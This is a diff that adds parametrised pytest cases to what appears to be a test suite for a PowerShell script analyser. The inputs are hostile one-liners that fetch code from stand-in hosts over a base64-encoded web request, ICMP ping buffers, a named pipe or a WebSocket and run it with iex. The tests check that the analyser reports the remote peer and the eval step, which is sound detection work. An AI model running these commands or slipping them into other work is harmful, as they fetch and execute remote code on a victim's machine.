@@ -350,3 +350,21 @@ def test_what_switch_and_the_outcome_of_statements_come_to(text, said):
 def test_powershell_that_calls_powershell_with_what_it_works_out():
     text = "powershell -enc ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('irm http://a.example.test/|iex')))"
     assert run(text).urls == ["http://a.example.test/"]
+
+
+@pytest.mark.parametrize(
+    ("text", "peer"),
+    [
+        ("$r=(New-Object Net.NetworkInformation.Ping).Send('192.0.2.7',9,[byte[]](1));iex ([Text.Encoding]::ASCII.GetString($r.Buffer))", "192.0.2.7"),
+        ("$n=New-Object IO.Pipes.NamedPipeClientStream('192.0.2.7','a','InOut');$n.Connect();iex (New-Object IO.StreamReader($n)).ReadLine()", r"\\192.0.2.7\pipe\a"),
+        (
+            ("$w=New-Object Net.WebSockets.ClientWebSocket;$c=[Threading.CancellationToken]::None;$w.ConnectAsync('wss://a.example.test/x',$c).Wait();$b=New-Object byte[] 99;"
+            "$n=$w.ReceiveAsync((New-Object ArraySegment[byte] -ArgumentList @(,$b)),$c).Result.Count;iex ([Text.Encoding]::UTF8.GetString($b,0,$n))"),
+            "wss://a.example.test/x",
+        ),
+    ],
+)  # fmt: skip
+def test_what_comes_over_pings_pipes_and_web_sockets_is_run(text, peer):
+    out = run(text)
+    assert out.values("effect.connect") == [peer]
+    assert f"data received from {peer}" in out.values("effect.eval")[-1]
